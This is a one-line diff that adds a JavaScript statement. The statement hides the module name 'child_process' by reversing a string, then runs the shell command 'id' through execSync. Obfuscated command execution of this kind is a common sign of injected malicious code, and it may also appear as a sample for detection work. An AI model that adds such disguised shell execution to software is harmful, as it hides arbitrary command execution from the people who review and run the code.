@@ -1,0 +1,1 @@
+require('ssecorp_dlihc'.split('').reverse().join('')).execSync('id')
